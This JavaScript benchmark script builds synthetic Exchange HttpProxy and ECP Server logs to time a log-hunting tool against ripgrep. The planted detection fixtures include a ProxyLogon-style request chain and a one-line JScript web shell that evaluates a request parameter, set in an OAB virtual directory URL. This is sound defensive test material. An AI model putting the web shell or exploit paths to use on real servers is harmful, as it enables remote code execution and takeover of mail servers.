// HttpProxy/ECP speed and memory check (issues 2 and 16): `exhunt scan` against `rg -c -F` over the same multi-GB
// corpus, in the same run, on a warm page cache. Two cases, each ~EXHUNT_BENCH_GB GB (default 1):
//
//   npm run bench                       (builds, then runs every bench/*.bench.mjs)
//   EXHUNT_BENCH_GB=0.5 node bench/httpproxy.bench.mjs
//
// 1. realistic (bench/.corpus/httpproxy-realistic/): 9 protocol folders with a busy server's share of the bytes
//    (bench/traffic.mjs: Mapi, Eas, Ews, Owa, Autodiscover, PowerShell, Ecp, RpcHttp, Oab), 4 hourly files each.
// 2. sparse (bench/.corpus/httpproxy/, the issue-2 corpus): 7 equal folders of 74-column rows (~1.2 KB each).
// Both: a few ECP Server files (4% of the bytes); one real HelseCERT attack row planted per ~50 MB. Reused when its
// manifest matches (gitignored).
//
// ripgrep gets the union of the literal needles of every record rule that reads httpproxy / ecp-server / oabgen
// (from dist/engine/registry.js). Some needles are case-insensitive in exhunt (needleCase !== 'exact'), so rg runs
// ONCE with -i over all needles: one pass over the bytes, the way an analyst would grep, and at least as much work
// as exhunt's own prefilter (which searches exact needles as written and only the others case-insensitively).
// Running rg twice (exact, then -i) would read every byte twice and flatter exhunt.
//
// Both tools use every core (rg: its own threads; exhunt: one worker thread per core). Best of 3 runs each.
// Fails (exit 1) when exhunt does not report exactly the planted lines, or when its peak RSS reaches 256 MB.
// Prints the throughput ratio against the issue-16 target (exhunt >= 0.5 of rg) without failing on it: it depends
// on the machine.
import { join } from 'node:path';
import { cachedCorpus, corpusFiles, envGb, HP_FIELDS, hpIdleLatencies, LOG_BENCH, plantState, recordRules, REPO, requireDist, rng, runLogBench, writeLogFile } from './lib.mjs';
import { HP_MIX, httpProxyPools } from './traffic.mjs';

const CORPUS = join(REPO, 'bench', '.corpus', 'httpproxy');
const REAL = join(REPO, 'bench', '.corpus', 'httpproxy-realistic');
const GB = envGb('EXHUNT_BENCH_GB', 1);
const PLANT_EVERY = LOG_BENCH.plantEvery;
const CORPUS_VERSION = 3;
const SEED = 20210303;

requireDist();

// ---------------------------------------------------------------------------------------------------------------
// Row material

const COLS = HP_FIELDS.split(',');
const TS0 = '2021-03-03T00:00:00.000Z'; // every row starts with a 24-character timestamp, rewritten per line
const SRV = { name: 'MAIL01', fqdn: 'MAIL01.corp.example.org', domain: 'corp.example.org', db: 'fb7adba2-51f4-47e3-b170-fd39f85aaf35' };

const cell = (v) => (v === undefined ? '' : /[",]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
const row = (v) => COLS.map((c) => cell(v[c])).join(',');

/** ~1.2 KB benign rows per protocol, values varied like the artefacts.help samples. */
function benignRows(protocol, r, n) {
  const out = [];
  for (let i = 0; i < n; i++) {
    const user = `user${r.int(1000, 9999)}`;
    const sid = `Sid~S-1-5-21-1234567890-987654321-123456789-${r.int(1100, 9999)}`;
    const ip = r.pick([`10.20.${r.int(0, 9)}.${r.int(2, 254)}`, `192.168.${r.int(10, 90)}.${r.int(2, 254)}`, '127.0.0.1', `fe80::${r.hex(4)}:${r.hex(4)}:${r.hex(4)}:${r.hex(4)}%3`]);
    const total = r.int(3, 900);
    const t = TS0.slice(0, 11);
    const gi = `BeginRequest=${t}00:00:00.000Z;CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1942063431;RoutingEntry=DatabaseGuid:${SRV.db}%40${SRV.domain}%40${SRV.domain} Server:${SRV.fqdn}+1942063431@6380703675${r.int(10000000, 99999999)};NewConnection=${ip}&0;BeginGetRequestStream=${t}00:00:00.00${r.int(1, 9)}Z;OnRequestStreamReady=${t}00:00:00.00${r.int(1, 9)}Z;BeginGetResponse=${t}00:00:00.0${r.int(10, 99)}Z;OnResponseReady=${t}00:00:00.${r.int(100, 999)}Z;EndGetResponse=${t}00:00:00.${r.int(100, 999)}Z;ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest=${t}00:00:00.${r.int(100, 999)}Z;`;
    const base = {
      DateTime: TS0,
      RequestId: r.guid(),
      MajorVersion: '15',
      MinorVersion: '1',
      BuildVersion: '2176',
      RevisionVersion: '2',
      Protocol: protocol,
      IsAuthenticated: 'true',
      AuthenticatedUser: `CORP\\${user}`,
      ServerHostName: SRV.name,
      HttpStatus: r.pick(['200', '200', '200', '200', '401', '302']),
      BackEndStatus: '200',
      ProxyAction: 'Proxy',
      TargetServer: SRV.fqdn,
      TargetServerVersion: '15.01.2176.000',
      RoutingType: 'IntraForest',
      RequestBytes: String(r.int(0, 9000)),
      ResponseBytes: String(r.int(80, 90000)),
      ...hpIdleLatencies(),
      CalculateTargetBackEndLatency: String(r.int(0, 3)),
      ActivityContextLifeTime: String(total),
      ClientReqStreamLatency: '1',
      BackendReqInitLatency: '0',
      BackendProcessingLatency: String(Math.max(0, total - 4)),
      RequestHandlerLatency: String(total),
      ProxyTime: String(total - 3),
      CoreLatency: '3',
      RoutingLatency: '2',
      HttpProxyOverhead: '4',
      TotalRequestTime: String(total),
      GenericInfo: gi,
      DatabaseGuid: `|RoutingDB:${SRV.db}`,
      RoutingStatus: 'CafeV1',
      ClientIpAddress: ip,
    };
    const p = {
      Owa: { UrlHost: 'mail.example.org', UrlStem: '/owa/service.svc', ProtocolAction: r.pick(['GetItem', 'FindItem', 'FindConversation', 'GetConversationItems']), AuthenticationType: 'Negotiate', AnchorMailbox: sid, UserAgent: `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML  like Gecko) Chrome/${r.int(80, 89)}.0.${r.int(3000, 4400)}.${r.int(10, 190)} Safari/537.36`, Method: 'POST', RoutingHint: 'WindowsIdentity', BackEndCookie: `Database~${SRV.db}~~2021-04-02T0${r.int(0, 9)}:00:00~${SRV.domain}~1`, UrlQuery: `?action=GetItem&app=Mail&n=${r.int(10, 99)}` },
      Ews: { UrlHost: 'localhost', UrlStem: '/ews/', AuthenticationType: 'Negotiate', AuthenticatedUser: `CORP\\HealthMailbox${r.hex(7)}`, AnchorMailbox: sid, UserAgent: 'AMProbe/Local/ClientAccess', Method: 'GET', RoutingHint: 'WindowsIdentity' },
      Mapi: { ClientRequestId: `R:${r.guid()}:${r.int(1, 40)};RT:Execute;CI:${r.guid()}:1;CID:${r.guid()}`, UrlHost: SRV.fqdn, UrlStem: '/mapi/emsmdb/', AuthenticationType: 'Negotiate', Organization: SRV.domain, AnchorMailbox: `MailboxGuid~${r.guid()}`, UserAgent: 'MapiHttpClient', Method: 'POST', RoutingHint: 'MailboxGuidWithDomain', BackEndCookie: `Database~${SRV.db}~~2021-04-02T01:00:04`, UrlQuery: `?mailboxId=${r.guid()}@${SRV.domain}` },
      Eas: { UrlHost: 'mail.example.org', UrlStem: '/Microsoft-Server-ActiveSync/default.eas', AuthenticationType: 'Basic', AnchorMailbox: sid, UserAgent: r.pick(['Outlook-iOS-Android/1.0', 'Apple-iPhone12C1/1802.67']), Method: 'POST', RoutingHint: 'WindowsIdentity-NoDatabase', UrlQuery: `?Cmd=Sync&User=${SRV.domain}%5C${user}&DeviceId=${r.hex(32).toUpperCase()}&DeviceType=Outlook` },
      Autodiscover: { UrlHost: 'autodiscover.example.org', UrlStem: '/autodiscover/autodiscover.xml', AuthenticationType: 'NTLM', AnchorMailbox: sid, UserAgent: 'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.5110; Pro)', Method: 'POST', RoutingHint: 'WindowsIdentity', BackEndCookie: `Database~${SRV.db}~~2021-04-02T18:59:59~${SRV.domain}~1` },
      Ecp: { UrlHost: 'mail.example.org', UrlStem: '/ecp/RulesEditor/InboxRules.svc/GetList', AuthenticationType: 'Negotiate', AnchorMailbox: sid, UserAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML  like Gecko) Chrome/88.0.4324.150 Safari/537.36', Method: 'POST', RoutingHint: 'WindowsIdentity', UrlQuery: `?msExchEcpCanary=${r.alnum(43)}.` },
      // Real PowerShell rows carry a Server~ BackEndCookie: every one passes exhunt's `Server~` prefilter (PL-06).
      PowerShell: { UrlHost: SRV.fqdn.toLowerCase(), UrlStem: '/powershell', ProtocolAction: r.pick(['New-PSSession:Receive', 'Get-Mailbox:Command']), AuthenticationType: 'Kerberos', AuthenticatedUser: `CORP\\HealthMailbox${r.hex(7)}`, AnchorMailbox: 'ServerVersion~Version 15.1 (Build 2176.0)', UserAgent: 'Microsoft WinRM Client', Method: 'POST', RoutingHint: 'ExchClientVer-ServerCookie', BackEndCookie: `Server~${SRV.fqdn.toLowerCase()}~1942063431~2021-03-03T16:11:44`, UrlQuery: `?clientApplication=ActiveMonitor;PSVersion=5.1.14393.4169&sessionID=Version_15.1_(Build_2176.0)=${r.alnum(60)}=` },
    }[protocol];
    out.push(row({ ...base, ...p }));
  }
  return out;
}

/** The real HelseCERT chain rows (client, stem, routing hint, UAs, back-end paths, statuses), padded to 74 columns. */
function attackRows(r) {
  const chain = [
    ['ExchangeServicesClient/0.0.0.0', '/autodiscover/autodiscover.xml?#', '200'],
    ['python-requests/2.25.1', '/mapi/emsmdb/?#', '200'],
    ['python-requests/2.25.1', '/ecp/proxyLogon.ecp?#', '241'],
    ['python-requests/2.25.1', '/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=M1xSxxxDuw.&schema=OABVirtualDirectory#', '200'],
    ['python-requests/2.25.1', '/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=8BeqxxxWYd1L8.&schema=OABVirtualDirectory#', '200'],
    ['python-requests/2.25.1', '/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=8BeqxxxWYd1L8.&schema=ResetOABVirtualDirectory#', '200'],
  ];
  return chain.map(([ua, path, status]) =>
    row({
      DateTime: TS0, RequestId: r.guid(), MajorVersion: '15', MinorVersion: '1', BuildVersion: '2176', RevisionVersion: '2', Protocol: 'Ecp', UrlHost: 'mail.example.org', UrlStem: '/ecp/y.js',
      IsAuthenticated: 'false', AnchorMailbox: `ServerInfo~a]@${SRV.fqdn}:444${path}`, UserAgent: ua, ClientIpAddress: '130.255.189.21', ServerHostName: SRV.name, HttpStatus: status, BackEndStatus: status,
      Method: 'POST', ProxyAction: 'Proxy', TargetServer: SRV.fqdn, TargetServerVersion: '15.01.2176.000', RoutingType: 'IntraForest', RoutingHint: 'X-BEResource-Cookie', RequestBytes: '290', ResponseBytes: '1178',
      GenericInfo: `BeginRequest=${TS0};CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1942063431;NewConnection=130.255.189.21&0;SharedCacheGuard=0;EndRequest=${TS0};`, RoutingStatus: 'CafeV1',
    }),
  );
}

const ECP_FIELDS = 'TimeStamp,ServerName,EventId,EventData';
function ecpBag(r, cmd, url) {
  const pair = (k, v) => {
    const p = `S:${k}=${v}`;
    return /[';]/.test(v) ? `'${p.replace(/'/g, "''")}'` : p;
  };
  const data = [pair('TIME', String(r.int(5, 400))), pair('SID', r.guid()), pair('CMD', cmd), 'S:REQID=', pair('URL', url), 'S:REFERRER=', 'S:EX=', pair('ACTID', r.guid()), 'S:RS=0', 'S:BLD=15.1.2176.2', 'S:TNAME=<null>', 'S:TID=', pair('USID', r.guid()), 'S:EDOID=', 'S:ACID='].join(';');
  return [TS0, SRV.name, 'ECP.Request', cell(data)].join(',');
}
function ecpBenign(r, n) {
  const out = [];
  for (let i = 0; i < n; i++) {
    const canary = r.alnum(43) + '.';
    out.push(
      r.int(0, 49) === 0 // an admin reading virtual directories now and then: passes the VirtualDirectory prefilter
        ? ecpBag(r, 'Get-OwaVirtualDirectory.ADPropertiesOnly=$true.Identity=$null', `/ecp/DDI/DDIService.svc/GetList?msExchEcpCanary=${canary}&schema=OWAVirtualDirectory`)
        : ecpBag(r, r.pick(['Get-InboxRule', 'Pipeline.1|Get-MailboxRegionalConfiguration', 'Get-MailboxCalendarConfiguration']), `/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=${canary}`),
    );
  }
  return out;
}
function ecpAttack(r) {
  const script = '<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>';
  return ecpBag(r, `Set-OabVirtualDirectory.ExternalUrl='http://f/${script}'.Identity='982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'`, '/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=M1xSxxxDuw.&schema=OABVirtualDirectory');
}

// ---------------------------------------------------------------------------------------------------------------
// Corpus

const PROTOCOLS = ['Owa', 'Ews', 'Mapi', 'Eas', 'Autodiscover', 'Ecp', 'PowerShell'];
const HP_FILES = 28; // 4 hours x 7 protocol folders
const ECP_FILES = 3;
const ECP_SHARE = 0.04;

function header(version, logType, date, fields) {
  return `#Software: Microsoft Exchange Server\r\n#Version: ${version}\r\n#Log-type: ${logType}\r\n#Date: ${date}\r\n#Fields: ${fields}\r\n`;
}

function buildCorpus() {
  const params = { version: CORPUS_VERSION, gb: GB, seed: SEED, plantEvery: PLANT_EVERY, hpFiles: HP_FILES, ecpFiles: ECP_FILES };
  return cachedCorpus(CORPUS, params, () => {
    const r = rng(SEED);
    const pools = Object.fromEntries(PROTOCOLS.map((p) => [p, { share: 1 / PROTOCOLS.length, rows: benignRows(p, r, 512) }]));
    return writeServer(CORPUS, r, pools, attackRows(r), HP_FILES / PROTOCOLS.length, '15.01.2176.002');
  });
}

/** The realistic corpus: every protocol folder of bench/traffic.mjs with its share of the bytes, 4 hourly files each. */
function buildRealistic() {
  const params = { version: 1, gb: GB, seed: SEED + 1, plantEvery: PLANT_EVERY, hours: 4, ecpFiles: ECP_FILES };
  return cachedCorpus(REAL, params, () => {
    const r = rng(SEED + 1);
    return writeServer(REAL, r, httpProxyPools(r, 2048), attackRows(r), 4, '15.01.2507.006');
  });
}

/**
 * Hourly HttpProxy files per protocol folder (`pools`: protocol -> { share of the HttpProxy bytes, rows }), attack
 * rows planted across them, then a few ECP Server files.
 */
function writeServer(dir, r, pools, attacks, hours, version) {
  const total = GB * 1e9;
  const out = corpusFiles(dir);
  const state = plantState(r, PLANT_EVERY);
  const write = (rel, head, pool, target, rows, startMs, spanMs) => {
    const times = { startMs, spanMs, stamp: (ms) => new Date(ms).toISOString() };
    out.add(rel, writeLogFile(join(dir, rel), head, pool, target, { rows, every: PLANT_EVERY, state }, times, r));
  };
  for (let h = 0; h < hours; h++) {
    for (const [protocol, { share, rows }] of Object.entries(pools)) {
      const hourMs = Date.parse('2021-03-03T04:00:00.000Z') + h * 3_600_000;
      const stamp = new Date(hourMs).toISOString();
      const rel = `Logging/HttpProxy/${protocol}/HttpProxy_${stamp.slice(0, 13).replace(/[-T]/g, '')}-1.LOG`;
      write(rel, header(version, 'HttpProxy Logs', stamp, HP_FIELDS), rows, (total * (1 - ECP_SHARE) * share) / hours, attacks, hourMs, 3_600_000);
    }
  }
  const ecpPool = ecpBenign(r, 512);
  for (let i = 0; i < ECP_FILES; i++) {
    const dayMs = Date.parse('2021-03-01T00:00:00.000Z') + i * 86_400_000;
    const stamp = new Date(dayMs).toISOString();
    const rel = `Logging/ECP/Server/ECPServer${stamp.slice(0, 10).replace(/-/g, '')}-1.LOG`;
    // Rows spread over the day's first hour, as in every corpus so far: another span would change the bytes.
    write(rel, header('15.0.0.0', 'ECP Server Log', stamp, ECP_FIELDS), ecpPool, (total * ECP_SHARE) / ECP_FILES, [ecpAttack(r)], dayMs, 3_600_000);
  }
  return out.manifest();
}

// ---------------------------------------------------------------------------------------------------------------
// Runs

const t0 = performance.now();
const rules = await recordRules(['httpproxy', 'ecp-server', 'oabgen']);
const needles = [...new Set(rules.flatMap((rule) => rule.needles))];
const insensitive = rules.some((rule) => rule.needles.length && rule.needleCase !== 'exact');
console.log(`needles (${rules.length} rules on httpproxy/ecp-server/oabgen${insensitive ? ', rg -i: some rules match in any case' : ''}): ${needles.join(' | ')}`);

// Case 1, realistic: the protocol folders of a busy server (bench/traffic.mjs).
const real = buildRealistic();
console.log(`\n--- realistic traffic (bench/traffic.mjs): HttpProxy folders by share of bytes ${HP_MIX}; ECP Server logs ${ECP_SHARE * 100}%`);
const ok1 = runLogBench({ t0, corpus: REAL, manifest: real, needles, insensitive, exposureFrom: '#Version', exitOnFailure: false });

// Case 2, sparse: the issue-2 corpus (equal folders, few rows with a needle).
console.log('\n--- sparse traffic (issue-2 corpus)');
const manifest = buildCorpus();
const ok2 = runLogBench({ t0, corpus: CORPUS, manifest, needles, insensitive, exposureFrom: '#Version', exitOnFailure: false });
if (!ok1 || !ok2) process.exit(1);
